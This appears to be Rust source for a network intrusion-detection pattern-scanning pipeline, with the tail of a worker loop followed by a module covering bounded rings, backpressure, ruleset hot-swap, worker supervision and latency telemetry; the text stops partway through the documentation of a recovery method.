        // safety net.
        let mut idle = 0u32;
        loop {
            match self.jobs.pop() {
                Some(job) => {
                    idle = 0;
                    self.handle(job);
                }
                None => {
                    if self.jobs.is_closed() {
                        break;
                    }
                    idle += 1;
                    if idle < 64 {
                        std::hint::spin_loop();
                    } else if idle < 128 {
                        std::thread::yield_now();
                    } else {
                        std::thread::park_timeout(Duration::from_micros(100));
                    }
                }
            }
        }
    }

    fn handle(&mut self, job: PipeJob) {
        let now = Instant::now();
        match job {
            PipeJob::Packet { packet, enqueued } => {
                self.sweep_idle(now);
                self.scan_packet(packet, now);
                // Latency is measured dispatch→scanned: ring wait + scan.
                self.latency.record(enqueued.elapsed().as_nanos() as u64);
            }
            PipeJob::CloseFlow(flow) => {
                if let Some(slot) = self.flows.remove(&flow) {
                    self.recency.remove(&slot.seq);
                }
            }
            PipeJob::Swap { mode, epoch } => {
                // Existing flows keep the scanners they were minted with
                // (graceful drain); only new mints see the new mode.
                self.mode = mode;
                self.epoch = epoch;
            }
            PipeJob::Flush { token } => {
                self.sweep_idle(now);
                self.flush(token, now);
            }
        }
        self.busy_nanos += now.elapsed().as_nanos() as u64;
    }

    /// Evicts flows idle past the timeout, scanning only the (push-ordered)
    /// front of the recency index.
    fn sweep_idle(&mut self, now: Instant) {
        let Some(idle_after) = self.idle_after else {
            return;
        };
        while let Some((&seq, &flow)) = self.recency.first_key_value() {
            let stale = self.flows.get(&flow).is_none_or(|slot| {
                now.checked_duration_since(slot.last_seen)
                    .is_some_and(|idle| idle >= idle_after)
            });
            if !stale {
                break;
            }
            self.recency.remove(&seq);
            if self.flows.remove(&flow).is_some() {
                self.evicted += 1;
            }
        }
    }

    fn scan_packet(&mut self, packet: Packet, now: Instant) {
        let seq = self.next_seq;
        self.next_seq += 1;
        let flow = packet.flow;
        let slot = if self.tracks_recency() {
            if let Some(slot) = self.flows.get_mut(&flow) {
                self.recency.remove(&slot.seq);
                slot.seq = seq;
                slot.last_seen = now;
            } else {
                // Same LRU semantics as the barrier scanner: at the cap, the
                // least-recently-pushed flow is retired like a close.
                if let Some(cap) = self.max_flows {
                    if self.flows.len() >= cap {
                        let (_, evicted) = self
                            .recency
                            .pop_first()
                            .expect("cap >= 1, so map is non-empty");
                        self.flows.remove(&evicted);
                        self.evicted += 1;
                    }
                }
                self.flows.insert(
                    flow,
                    FlowSlot {
                        scanner: FlowScanner::mint(&self.mode, packet.tuple),
                        seq,
                        last_seen: now,
                        epoch: self.epoch,
                    },
                );
            }
            self.recency.insert(seq, flow);
            self.flows.get_mut(&flow).expect("present or just inserted")
        } else {
            self.flows.entry(flow).or_insert_with(|| FlowSlot {
                scanner: FlowScanner::mint(&self.mode, packet.tuple),
                seq,
                last_seen: now,
                epoch: self.epoch,
            })
        };
        self.events.clear();
        self.rule_events.clear();
        match &mut slot.scanner {
            FlowScanner::Plain(scanner) => scanner.push(&packet.payload, &mut self.events),
            FlowScanner::Rules(scanner) => {
                scanner.push(&packet.payload, &mut self.events, &mut self.rule_events)
            }
            FlowScanner::Grouped(scanner) => scanner.push(&packet.payload, &mut self.rule_events),
        }
        self.stats.bytes_scanned += packet.payload.len() as u64;
        // Same accounting as the barrier scanner: grouped mode counts
        // confirmed rules (group-local pattern ids would be ambiguous).
        self.stats.matches += match &slot.scanner {
            FlowScanner::Grouped(_) => self.rule_events.len() as u64,
            _ => self.events.len() as u64,
        };
        self.packets += 1;
        self.bytes += packet.payload.len() as u64;
        for event in self.events.drain(..) {
            push_out(&mut self.out, Out::Match(FlowMatch { flow, event }));
        }
        for m in self.rule_events.drain(..) {
            push_out(
                &mut self.out,
                Out::Rule(FlowRuleMatch {
                    flow,
                    rule: m.rule,
                    end: m.end,
                }),
            );
        }
    }

    fn flush(&mut self, token: u64, now: Instant) {
        let report = FlushReport {
            worker: self.index,
            token,
            stats: std::mem::take(&mut self.stats),
            latency: std::mem::replace(&mut self.latency, LatencyHistogram::new()),
            busy_nanos: std::mem::take(&mut self.busy_nanos),
            wall_nanos: now.duration_since(self.interval_start).as_nanos() as u64,
            packets: std::mem::take(&mut self.packets),
            bytes: std::mem::take(&mut self.bytes),
            evicted: std::mem::take(&mut self.evicted),
            resident_flows: self.flows.len(),
            old_epoch_flows: self
                .flows
                .values()
                .filter(|slot| slot.epoch != self.epoch)
                .count(),
        };
        self.interval_start = now;
        push_out(&mut self.out, Out::Flushed(Box::new(report)));
    }
}

/// Blocking output push: the ring is bounded, so a worker outrunning the
/// collector waits here (the dispatcher's backpressure loop drains the ring,
/// so this cannot deadlock). A closed ring means the control side is gone —
/// results are dropped, the worker drains out.
fn push_out(out: &mut Producer<Out>, mut item: Out) {
    loop {
        match out.push(item) {
            Ok(()) => return,
            Err(PushError::Full(v)) => {
                item = v;
                std::thread::yield_now();
            }
            Err(PushError::Closed(_)) => return,
        }
    }
}
