//! [`PipelineScanner`]: the continuously-running successor to the
//! batch-and-join [`crate::ShardedScanner`].
//!
//! Where the barrier scanner stalls every worker on the slowest shard once
//! per batch (unbounded mpsc in, rendezvous channel back), the pipeline
//! runs its workers free: each worker owns a **bounded SPSC job ring**
//! ([`crate::ring`]) it drains continuously and a bounded SPSC output ring
//! it streams matches into. Dispatch is flow-affine exactly as before (same
//! flow ⇒ same worker ⇒ coherent stream state), but nothing joins: a slow
//! shard only delays its own flows, and a full job ring pushes back on the
//! dispatcher ([`PipelineScanner::dispatch`] blocks, draining that worker's
//! output ring while it waits, so backpressure can never deadlock) instead
//! of queueing unboundedly.
//!
//! On top of the free-running workers this module adds what a production
//! runtime needs and a batch harness cannot express:
//!
//! * **Latency observability** — every packet is stamped at dispatch; the
//!   owning worker records queue+scan latency into a per-worker
//!   [`LatencyHistogram`] (log-bucketed, ~3.2% resolution), merged at
//!   [`PipelineScanner::drain`] into pipeline-wide p50/p99/p999 alongside
//!   per-worker utilization and ring-occupancy high-water marks
//!   ([`PipelineStats`], [`WorkerStats`]).
//! * **Time+LRU hybrid eviction** — [`crate::ScannerBuilder::max_flows`]
//!   bounds resident flows with least-recently-pushed eviction (as the
//!   barrier scanner did), and [`crate::EvictionPolicy::idle_after`] adds
//!   an idle timeout: flows whose last packet is older than the timeout are
//!   swept lazily (the recency index is push-ordered, so the sweep only
//!   ever inspects the front), the NIDS analogue of a reassembly idle
//!   timer.
//! * **Graceful ruleset hot-swap** — [`PipelineScanner::swap_rules`] (and
//!   `swap_engine`/`swap_groups`) builds the new compile product on the
//!   caller's thread, then flips it under the workers via an epoch-stamped
//!   control message that rides the same FIFO rings as packets. Flows
//!   minted before the swap keep scanning under the ruleset they started
//!   with until they close or evict (no torn reads, no mid-flow semantic
//!   change); flows first seen after the swap use the new one. Because the
//!   swap marker is FIFO-ordered against packets per worker, which flows
//!   land on which epoch is a function of the dispatch order alone —
//!   deterministic across worker counts (`tests/hot_swap.rs`).
//! * **Worker supervision** — each worker runs its job loop under
//!   `catch_unwind`. A panicking worker ships a death report (message plus
//!   every resident flow) through its output ring and exits; the
//!   dispatcher detects the closed ring, **respawns** the worker with a
//!   fresh scanner map at the current ruleset epoch, reclaims the jobs the
//!   dead worker never popped, and **quarantines** the flows whose stream
//!   state died with it (reported as [`FlowError`]s in
//!   [`PipelineStats::flow_errors`], never silently dropped). A worker
//!   that vanishes without a report (a hard crash, simulated by the fault
//!   harness) is also respawned, and the gap is surfaced once as
//!   [`PipelineError::WorkerLost`] from the next
//!   [`PipelineScanner::drain`]/[`PipelineScanner::poll`] — those methods
//!   return `Result` precisely so supervision can never turn into a silent
//!   hang.
//! * **Overload policy** — [`crate::BackpressurePolicy`] picks what a full
//!   job ring means: `Block` (the default and the differential oracle)
//!   waits, `Shed` drops the packet and counts it
//!   ([`PipelineStats::shed_packets`]), `BlockTimeout` waits a bounded
//!   time and then sheds. Shedding loses payload bytes by design — an
//!   overloaded IDS that sheds predictably beats one that stalls its
//!   capture loop.
//! * **Bounded rule buffers** — [`crate::ScannerBuilder::max_flow_buffer`]
//!   caps each flow's rule-confirmation payload buffer; over the cap a
//!   flow degrades to anchor-only reporting
//!   ([`crate::RuleStreamScanner::with_max_buffer`] has the exact
//!   contract), with [`PipelineStats::degraded_flows`],
//!   [`PipelineStats::truncated_bytes`] and the
//!   [`PipelineStats::buffered_bytes`] gauge as the observability.
//!
//! Equivalence contract: for the same packets, `dispatch* + drain` (or
//! [`PipelineScanner::scan_batch`]) under the default `Block` policy
//! reports byte-identical sorted `matches`/`rule_matches` to the barrier
//! scanner's `scan_batch` (`tests/pipeline_equivalence.rs`).

use crate::builder::BackpressurePolicy;
use crate::fault::FaultPlan;
use crate::group::GroupedEngineSet;
use crate::ring::{self, Consumer, Producer, PushError};
use crate::shard::{FlowMatch, FlowRuleMatch, Packet};
use crate::stream::SharedMatcher;
use crate::worker::{mix64, plain_mode, rule_parts, FlowScanner, WorkerMode};
use mpm_patterns::rule::{RuleMatch, RuleSet};
use mpm_patterns::stats::{LatencyHistogram, LatencySummary};
use mpm_patterns::{MatchEvent, MatcherStats, PatternSet};
use std::collections::{BTreeMap, HashMap, HashSet};
use std::sync::Arc;
use std::thread::{JoinHandle, Thread};
use std::time::{Duration, Instant};

/// Jobs flowing control→worker through the bounded job ring.
enum PipeJob {
    /// Scan one packet; `enqueued` is the dispatch timestamp the worker
    /// turns into the packet's queue+scan latency sample.
    Packet { packet: Packet, enqueued: Instant },
    /// Drop a finished flow's stream state.
    CloseFlow(u64),
    /// Hot-swap: scan flows minted from here on with `mode` under `epoch`.
    Swap { mode: WorkerMode, epoch: u64 },
    /// Collection point: emit a [`FlushReport`] for the interval since the
    /// last flush and reset the interval accumulators.
    Flush { token: u64 },
}

/// Results flowing worker→control through the bounded output ring.
enum Out {
    Match(FlowMatch),
    Rule(FlowRuleMatch),
    /// Boxed: the interval histogram is ~15 KiB and flushes are rare; the
    /// common `Match`/`Rule` variants stay ring-slot sized.
    Flushed(Box<FlushReport>),
    /// The worker caught a panic and is about to exit: its last words,
    /// carrying the flows whose state dies with it. Boxed like `Flushed`.
    Died(Box<DeathReport>),
}

/// A dying worker's final message through its output ring.
struct DeathReport {
    message: String,
    /// `(flow, buffered rule bytes)` for every flow resident at death,
    /// sorted by flow id for deterministic reporting.
    flows: Vec<(u64, u64)>,
}

/// One worker's interval telemetry, shipped through its output ring at
/// every [`PipelineScanner::drain`].
struct FlushReport {
    worker: usize,
    token: u64,
    stats: MatcherStats,
    latency: LatencyHistogram,
    busy_nanos: u64,
    wall_nanos: u64,
    packets: u64,
    bytes: u64,
    evicted: u64,
    resident_flows: usize,
    old_epoch_flows: usize,
    /// Gauge: rule-payload bytes buffered across resident flows at flush.
    buffered_bytes: u64,
    /// Gauge: resident flows currently degraded (over the buffer cap).
    degraded_flows: u64,
    /// Interval counter: bytes truncated past flow buffer caps.
    truncated_bytes: u64,
}

/// Per-worker telemetry for one drain interval (see
/// [`PipelineStats::workers`]).
#[derive(Clone, Debug)]
pub struct WorkerStats {
    /// Worker index (== the value [`PipelineScanner::worker_of`] shards to).
    pub worker: usize,
    /// Packets scanned this interval.
    pub packets: u64,
    /// Payload bytes scanned this interval.
    pub bytes: u64,
    /// Nanoseconds spent processing jobs this interval.
    pub busy_nanos: u64,
    /// Wall nanoseconds of the interval on this worker.
    pub wall_nanos: u64,
    /// High-water mark of the worker's job-ring occupancy, observed at
    /// dispatch time (an occupancy near [`WorkerStats::ring_capacity`]
    /// means this shard is the bottleneck).
    pub max_ring_occupancy: usize,
    /// Capacity of the worker's job ring.
    pub ring_capacity: usize,
    /// Flows evicted this interval (LRU cap + idle timeout combined).
    pub evicted: u64,
    /// Flows resident on this worker at flush time.
    pub resident_flows: usize,
    /// Packets shed at this worker's ring this interval (only nonzero
    /// under the `Shed`/`BlockTimeout` backpressure policies).
    pub shed_packets: u64,
}

impl WorkerStats {
    /// Fraction of the interval the worker spent processing jobs, in
    /// `[0, 1]` — the utilization figure next to p99 in the bench report.
    pub fn utilization(&self) -> f64 {
        if self.wall_nanos == 0 {
            0.0
        } else {
            (self.busy_nanos as f64 / self.wall_nanos as f64).min(1.0)
        }
    }
}

/// Record of one worker respawn (see [`PipelineStats::worker_restarts`]).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct WorkerRestart {
    /// The worker that died and was respawned.
    pub worker: usize,
    /// The panic message the worker died with, or a placeholder when it
    /// vanished without reporting.
    pub message: String,
}

/// A flow quarantined by a worker death (see
/// [`PipelineStats::flow_errors`]): its stream state — carry bytes, rule
/// progress, buffered payload — died with the worker, so its results are
/// incomplete. Packets of the flow still queued on the dead worker are
/// dropped (a fresh mid-stream scanner would report wrong offsets);
/// packets arriving after the respawn start a fresh stream at offset 0.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct FlowError {
    /// The quarantined flow.
    pub flow: u64,
    /// The worker the flow was resident on when it died.
    pub worker: usize,
    /// Rule-payload bytes that were buffered for the flow at death.
    pub buffered_bytes: u64,
}

/// Errors surfaced by the pipeline's worker supervision — returned instead
/// of hanging, which is what a dead worker used to cause.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum PipelineError {
    /// A worker thread terminated without a death report (a hard crash, as
    /// opposed to a caught panic). The worker has already been respawned
    /// and the pipeline keeps running, but its resident flows were lost
    /// *without* per-flow accounting — this error is surfaced exactly once
    /// so the caller knows coverage has a hole. The next call succeeds.
    WorkerLost {
        /// Index of the worker that vanished.
        worker: usize,
    },
}

impl std::fmt::Display for PipelineError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PipelineError::WorkerLost { worker } => {
                write!(f, "pipeline worker {worker} terminated without a report")
            }
        }
    }
}

impl std::error::Error for PipelineError {}

/// Result of one [`PipelineScanner::drain`]: everything the pipeline
/// produced since the previous drain (minus what
/// [`PipelineScanner::poll`] already handed out), plus the latency and
/// utilization telemetry the barrier-era `BatchResult` had no way to
/// express.
#[derive(Clone, Debug)]
pub struct PipelineStats {
    /// All matches of the interval, sorted by `(flow, start, pattern)` —
    /// same order, same contents as the barrier scanner's `matches`.
    pub matches: Vec<FlowMatch>,
    /// Rules confirmed during the interval, sorted by `(flow, rule, end)`.
    pub rule_matches: Vec<FlowRuleMatch>,
    /// Scan statistics summed over all workers (exact, deterministic).
    pub stats: MatcherStats,
    /// Flows resident across all workers at drain time.
    pub resident_flows: usize,
    /// Flows evicted during the interval (LRU cap + idle timeout).
    pub evicted_flows: u64,
    /// Per-packet queue+scan latency percentiles, merged across workers.
    pub latency: LatencySummary,
    /// The merged histogram behind [`PipelineStats::latency`] — kept so
    /// callers (the bench harness) can merge intervals/runs before taking
    /// percentiles, which summaries cannot do.
    pub histogram: LatencyHistogram,
    /// Per-worker telemetry, indexed by worker.
    pub workers: Vec<WorkerStats>,
    /// Times a dispatch found a job ring full and had to wait this
    /// interval — nonzero means the traffic source outran a shard and
    /// backpressure engaged.
    pub backpressure_waits: u64,
    /// Packets dropped at full rings this interval, summed over workers
    /// (the `Shed`/`BlockTimeout` policies; always zero under `Block`).
    pub shed_packets: u64,
    /// The ruleset epoch current at drain time (bumped by every swap).
    pub epoch: u64,
    /// Flows still scanning under a pre-swap ruleset (they drain
    /// gracefully; see the module docs on hot-swap).
    pub old_epoch_flows: usize,
    /// Gauge: rule-confirmation payload bytes buffered across all resident
    /// flows at drain time — the memory the
    /// [`crate::ScannerBuilder::max_flow_buffer`] cap bounds.
    pub buffered_bytes: u64,
    /// Gauge: resident flows that exceeded the buffer cap and degraded to
    /// anchor-only reporting.
    pub degraded_flows: u64,
    /// Payload bytes past flow buffer caps this interval — scanned for
    /// anchors but never eligible for rule confirmation.
    pub truncated_bytes: u64,
    /// Workers respawned during the interval, in recovery order.
    pub worker_restarts: Vec<WorkerRestart>,
    /// Flows quarantined by worker deaths during the interval, sorted by
    /// flow id within each death.
    pub flow_errors: Vec<FlowError>,
}

/// One flow's stream state plus bookkeeping for recency eviction and
/// epoch accounting.
struct FlowSlot {
    scanner: FlowScanner,
    /// Sequence number of the flow's latest packet on this worker (the
    /// recency key).
    seq: u64,
    /// Arrival time of the flow's latest packet (drives `idle_after`).
    last_seen: Instant,
    /// The ruleset epoch the flow's scanner was minted from.
    epoch: u64,
}

/// Everything [`PipelineScanner::spawn`] needs, bundled so the builder and
/// the respawn path construct workers identically.
pub(crate) struct PipelineConfig {
    pub(crate) mode: WorkerMode,
    pub(crate) workers: usize,
    pub(crate) ring_capacity: usize,
    pub(crate) max_flows: Option<usize>,
    pub(crate) idle_after: Option<Duration>,
    pub(crate) backpressure: BackpressurePolicy,
    pub(crate) max_flow_buffer: Option<usize>,
    pub(crate) plan: Arc<FaultPlan>,
}

/// Per-worker slice of the pipeline configuration (what one spawned thread
/// needs), cloned on every spawn and respawn.
struct WorkerConfig {
    index: usize,
    mode: WorkerMode,
    epoch: u64,
    max_flows: Option<usize>,
    idle_after: Option<Duration>,
    max_flow_buffer: Option<usize>,
    plan: Arc<FaultPlan>,
}

/// Continuously-running multi-core scanner: bounded rings, flow-affine
/// dispatch, no per-batch barrier. Built by [`crate::ScannerBuilder::build`].
///
/// ```
/// use mpm_patterns::{NaiveMatcher, PatternSet};
/// use mpm_stream::{Packet, ScannerBuilder};
/// use std::sync::Arc;
///
/// let rules = PatternSet::from_literals(&["attack"]);
/// let engine: mpm_stream::SharedMatcher = Arc::from(NaiveMatcher::new(&rules));
/// let mut pipeline = ScannerBuilder::new()
///     .engine(engine, &rules)
///     .workers(2)
///     .build()
///     .expect("valid configuration");
///
/// pipeline.dispatch(Packet::new(7, b"...att".to_vec()));
/// pipeline.dispatch(Packet::new(7, b"ack...".to_vec()));
/// let stats = pipeline.drain().expect("workers alive");
/// assert_eq!(stats.matches.len(), 1);
/// assert_eq!(stats.latency.count, 2); // every packet is a latency sample
/// ```
pub struct PipelineScanner {
    workers: Vec<WorkerHandle>,
    /// The current compile product — retained so a respawned worker is
    /// minted at the newest mode (kept in sync by `swap`).
    mode: WorkerMode,
    epoch: u64,
    flush_token: u64,
    pending_matches: Vec<FlowMatch>,
    pending_rules: Vec<FlowRuleMatch>,
    pending_reports: Vec<FlushReport>,
    /// Respawns since the last drain.
    pending_restarts: Vec<WorkerRestart>,
    /// Quarantined flows since the last drain.
    pending_flow_errors: Vec<FlowError>,
    /// Workers that vanished without a death report; each entry is
    /// surfaced once as [`PipelineError::WorkerLost`].
    lost: Vec<usize>,
    backpressure_waits: u64,
    ring_capacity: usize,
    backpressure: BackpressurePolicy,
    /// Per-worker share of the flow cap (already divided).
    max_flows: Option<usize>,
    idle_after: Option<Duration>,
    max_flow_buffer: Option<usize>,
    plan: Arc<FaultPlan>,
}

struct WorkerHandle {
    /// `Option` so `Drop` can hang up by dropping the producer in place
    /// (and so recovery can take it to reclaim buffered jobs).
    jobs: Option<Producer<PipeJob>>,
    out: Consumer<Out>,
    thread: Thread,
    handle: Option<JoinHandle<()>>,
    /// Control-side high-water mark of the job ring, per drain interval.
    max_occupancy: usize,
    /// Packets shed at this worker's ring, per drain interval.
    shed: u64,
    /// Death report pumped off the output ring, held until recovery
    /// consumes it.
    died: Option<DeathReport>,
}

/// Spawns one worker thread with fresh rings.
fn spawn_worker(config: WorkerConfig, ring_capacity: usize) -> WorkerHandle {
    let (jobs_tx, jobs_rx) = ring::spsc(ring_capacity);
    // Output rings are wider than job rings: one packet can produce many
    // matches, and headroom there keeps workers from stalling on their own
    // results.
    let (out_tx, out_rx) = ring::spsc(ring_capacity * 4);
    let handle = std::thread::spawn(move || PipelineWorker::new(config, jobs_rx, out_tx).run());
    WorkerHandle {
        jobs: Some(jobs_tx),
        out: out_rx,
        thread: handle.thread().clone(),
        handle: Some(handle),
        max_occupancy: 0,
        shed: 0,
        died: None,
    }
}

impl PipelineScanner {
    pub(crate) fn spawn(config: PipelineConfig) -> Self {
        // Invariant: `ScannerBuilder` validated the count (BuildError::ZeroWorkers).
        assert!(config.workers > 0, "need at least one worker");
        // Same split as the barrier scanner: div_ceil so small caps never
        // round below the requested bound.
        let per_worker_cap = config.max_flows.map(|m| m.div_ceil(config.workers).max(1));
        let ring_capacity = config.ring_capacity.max(2).next_power_of_two();
        let workers = (0..config.workers)
            .map(|index| {
                spawn_worker(
                    WorkerConfig {
                        index,
                        mode: config.mode.clone(),
                        epoch: 0,
                        max_flows: per_worker_cap,
                        idle_after: config.idle_after,
                        max_flow_buffer: config.max_flow_buffer,
                        plan: config.plan.clone(),
                    },
                    ring_capacity,
                )
            })
            .collect();
        PipelineScanner {
            workers,
            mode: config.mode,
            epoch: 0,
            flush_token: 0,
            pending_matches: Vec::new(),
            pending_rules: Vec::new(),
            pending_reports: Vec::new(),
            pending_restarts: Vec::new(),
            pending_flow_errors: Vec::new(),
            lost: Vec::new(),
            backpressure_waits: 0,
            ring_capacity,
            backpressure: config.backpressure,
            max_flows: per_worker_cap,
            idle_after: config.idle_after,
            max_flow_buffer: config.max_flow_buffer,
            plan: config.plan,
        }
    }

    /// Number of worker threads.
    pub fn workers(&self) -> usize {
        self.workers.len()
    }

    /// Capacity of each worker's job ring (rounded to a power of two).
    pub fn ring_capacity(&self) -> usize {
        self.ring_capacity
    }

    /// The ruleset epoch new flows are minted under (0 until the first
    /// swap).
    pub fn epoch(&self) -> u64 {
        self.epoch
    }

    /// The worker a flow is pinned to — same mixer, same determinism
    /// contract as the barrier scanner.
    pub fn worker_of(&self, flow: u64) -> usize {
        (mix64(flow) % self.workers.len() as u64) as usize
    }

    /// Sends one packet to its flow's worker; returns `false` iff the
    /// packet was shed. What a full job ring means depends on the
    /// [`crate::BackpressurePolicy`]:
    ///
    /// * `Block` (default): waits for a slot, draining that worker's
    ///   output ring while it waits so backpressure can never deadlock —
    ///   the pipeline's bounded-memory guarantee. Always returns `true`.
    /// * `Shed`: one push attempt; on a full ring the packet is dropped,
    ///   counted ([`PipelineStats::shed_packets`]) and `false` returned.
    /// * `BlockTimeout(limit)`: like `Block` for up to `limit`, then like
    ///   `Shed`.
    ///
    /// A dead worker encountered here is recovered transparently (see the
    /// module docs on supervision); dispatch itself never errors.
    pub fn dispatch(&mut self, packet: Packet) -> bool {
        let worker = self.worker_of(packet.flow);
        let job = PipeJob::Packet {
            packet,
            enqueued: Instant::now(),
        };
        match self.backpressure {
            BackpressurePolicy::Block => {
                self.push_job(worker, job);
                true
            }
            BackpressurePolicy::Shed => {
                if !self.plan.refuse_push(worker) && self.try_push(worker, job).is_ok() {
                    return true;
                }
                self.workers[worker].shed += 1;
                self.pump_worker(worker);
                false
            }
            BackpressurePolicy::BlockTimeout(limit) => {
                let deadline = Instant::now() + limit;
                let mut job = job;
                loop {
                    if !self.plan.refuse_push(worker) {
                        match self.try_push(worker, job) {
                            Ok(()) => return true,
                            Err(back) => job = back,
                        }
                    }
                    if Instant::now() >= deadline {
                        self.workers[worker].shed += 1;
                        self.pump_worker(worker);
                        return false;
                    }
                    self.backpressure_waits += 1;
                    self.pump_worker(worker);
                    std::thread::yield_now();
                }
            }
        }
    }

    /// Retires a finished flow, freeing its stream state on the owning
    /// worker (FIFO-ordered against the flow's packets, exactly like the
    /// barrier scanner's `close_flow`). Never shed, regardless of policy.
    pub fn close_flow(&mut self, flow: u64) {
        let worker = self.worker_of(flow);
        self.push_job(worker, PipeJob::CloseFlow(flow));
    }

    /// Non-blocking result pump: drains whatever the workers have pushed so
    /// far and returns it **unsorted** (arrival order). Use this from a
    /// live loop that wants matches as they happen; results handed out here
    /// are *not* repeated by the next [`PipelineScanner::drain`].
    ///
    /// # Errors
    /// [`PipelineError::WorkerLost`] once per worker that vanished without
    /// a death report (it has already been respawned; the next call
    /// succeeds).
    pub fn poll(&mut self) -> Result<(Vec<FlowMatch>, Vec<FlowRuleMatch>), PipelineError> {
        self.check_workers();
        if let Some(err) = self.take_lost() {
            return Err(err);
        }
        for w in 0..self.workers.len() {
            self.pump_worker(w);
        }
        Ok((
            std::mem::take(&mut self.pending_matches),
            std::mem::take(&mut self.pending_rules),
        ))
    }

    /// Collection point (not a scan barrier): asks every worker for its
    /// interval report, waits for the reports to arrive, and returns the
    /// merged, deterministically-sorted results plus latency/utilization
    /// telemetry. Workers keep draining their rings the whole time — only
    /// the caller waits. A worker that dies mid-drain is recovered and its
    /// flush re-issued, so this returns instead of hanging.
    ///
    /// # Errors
    /// [`PipelineError::WorkerLost`] once per worker that vanished without
    /// a death report (it has already been respawned; the next call
    /// succeeds).
    pub fn drain(&mut self) -> Result<PipelineStats, PipelineError> {
        self.check_workers();
        if let Some(err) = self.take_lost() {
            return Err(err);
        }
        let token = self.flush_token;
        self.flush_token += 1;
        for w in 0..self.workers.len() {
            self.push_job(w, PipeJob::Flush { token });
        }
        while self.pending_reports.len() < self.workers.len() {
            for w in 0..self.workers.len() {
                self.pump_worker(w);
            }
            if self.pending_reports.len() >= self.workers.len() {
                break;
            }
            // Liveness: a worker that died after its flush was pushed will
            // never report. Recover it and re-issue the flush (unless the
            // original flush job was reclaimed and re-enqueued, or its
            // report arrived just before it died).
            for w in 0..self.workers.len() {
                if self.pending_reports.iter().any(|r| r.worker == w) || !self.worker_dead(w) {
                    continue;
                }
                let flush_resent = self.recover_worker(w);
                if !flush_resent && !self.pending_reports.iter().any(|r| r.worker == w) {
                    self.push_job(w, PipeJob::Flush { token });
                }
            }
            std::thread::yield_now();
        }
        let mut reports = std::mem::take(&mut self.pending_reports);
        debug_assert!(reports.iter().all(|r| r.token == token));
        reports.sort_by_key(|r| r.worker);

        let mut stats = MatcherStats::default();
        let mut histogram = LatencyHistogram::new();
        let mut result_workers = Vec::with_capacity(reports.len());
        let mut resident_flows = 0;
        let mut evicted_flows = 0;
        let mut old_epoch_flows = 0;
        let mut shed_packets = 0;
        let mut buffered_bytes = 0;
        let mut degraded_flows = 0;
        let mut truncated_bytes = 0;
        for report in &reports {
            stats.merge(&report.stats);
            histogram.merge(&report.latency);
            resident_flows += report.resident_flows;
            evicted_flows += report.evicted;
            old_epoch_flows += report.old_epoch_flows;
            buffered_bytes += report.buffered_bytes;
            degraded_flows += report.degraded_flows;
            truncated_bytes += report.truncated_bytes;
            let handle = &mut self.workers[report.worker];
            let shed = std::mem::take(&mut handle.shed);
            shed_packets += shed;
            result_workers.push(WorkerStats {
                worker: report.worker,
                packets: report.packets,
                bytes: report.bytes,
                busy_nanos: report.busy_nanos,
                wall_nanos: report.wall_nanos,
                max_ring_occupancy: handle.max_occupancy,
                ring_capacity: self.ring_capacity,
                evicted: report.evicted,
                resident_flows: report.resident_flows,
                shed_packets: shed,
            });
            handle.max_occupancy = 0;
        }
        let mut matches = std::mem::take(&mut self.pending_matches);
        let mut rule_matches = std::mem::take(&mut self.pending_rules);
        matches.sort_unstable();
        rule_matches.sort_unstable();
        Ok(PipelineStats {
            matches,
            rule_matches,
            stats,
            resident_flows,
            evicted_flows,
            latency: histogram.summary(),
            histogram,
            workers: result_workers,
            backpressure_waits: std::mem::take(&mut self.backpressure_waits),
            shed_packets,
            epoch: self.epoch,
            old_epoch_flows,
            buffered_bytes,
            degraded_flows,
            truncated_bytes,
            worker_restarts: std::mem::take(&mut self.pending_restarts),
            flow_errors: std::mem::take(&mut self.pending_flow_errors),
        })
    }

    /// Dispatches a batch and drains — the drop-in shape of the barrier
    /// scanner's `scan_batch`, used by the equivalence suites. A live
    /// deployment calls [`PipelineScanner::dispatch`] /
    /// [`PipelineScanner::poll`] / [`PipelineScanner::drain`] directly.
    ///
    /// # Errors
    /// Same contract as [`PipelineScanner::drain`].
    pub fn scan_batch(
        &mut self,
        packets: impl IntoIterator<Item = Packet>,
    ) -> Result<PipelineStats, PipelineError> {
        for packet in packets {
            self.dispatch(packet);
        }
        self.drain()
    }

    /// Hot-swaps to a plain pattern engine (see the module docs for the
    /// epoch semantics). Returns the new epoch.
    pub fn swap_engine(&mut self, engine: SharedMatcher, set: &PatternSet) -> u64 {
        self.swap(plain_mode(engine, set, None))
    }

    /// Hot-swaps to a monolithic rule engine (`engine` compiled for
    /// `set.anchors()`, validated here on the caller's thread). Returns the
    /// new epoch.
    pub fn swap_rules(&mut self, engine: SharedMatcher, set: &RuleSet) -> u64 {
        self.swap(plain_mode(engine, set.anchors(), Some(rule_parts(set))))
    }

    /// Hot-swaps to a port-grouped engine set (built off-thread by the
    /// caller — this call is just the `Arc` flip). Returns the new epoch.
    pub fn swap_groups(&mut self, engines: Arc<GroupedEngineSet>) -> u64 {
        self.swap(WorkerMode::Grouped(engines))
    }

    fn swap(&mut self, mode: WorkerMode) -> u64 {
        self.epoch += 1;
        self.mode = mode.clone();
        for w in 0..self.workers.len() {
            self.push_job(
                w,
                PipeJob::Swap {
                    mode: mode.clone(),
                    epoch: self.epoch,
                },
            );
        }
        self.epoch
    }

    /// Is this worker's thread gone (exited or exiting)?
    fn worker_dead(&self, worker: usize) -> bool {
        let handle = &self.workers[worker];
        handle.handle.as_ref().is_none_or(|h| h.is_finished())
            || handle.jobs.as_ref().is_none_or(|j| j.is_closed())
    }

    /// Recovers every dead worker; called on entry to `poll`/`drain` so
    /// deaths that happened while the caller was away are handled before
    /// new work is issued.
    fn check_workers(&mut self) {
        for w in 0..self.workers.len() {
            if self.worker_dead(w) {
                self.recover_worker(w);
            }
        }
    }

    /// Pops the next pending "worker vanished" error, if any.
    fn take_lost(&mut self) -> Option<PipelineError> {
        if self.lost.is_empty() {
            None
        } else {
            Some(PipelineError::WorkerLost {
                worker: self.lost.remove(0),
            })
        }
    }

    /// Replaces a dead worker: joins the thread, reclaims the jobs it never
    /// popped, respawns it with a fresh scanner map at the **current**
    /// mode/epoch, records the restart, quarantines the flows whose state
    /// died with it, and re-enqueues the reclaimed jobs that are still
    /// meaningful. Returns true iff a reclaimed `Flush` was re-enqueued
    /// (the drain loop uses this to avoid double-flushing).
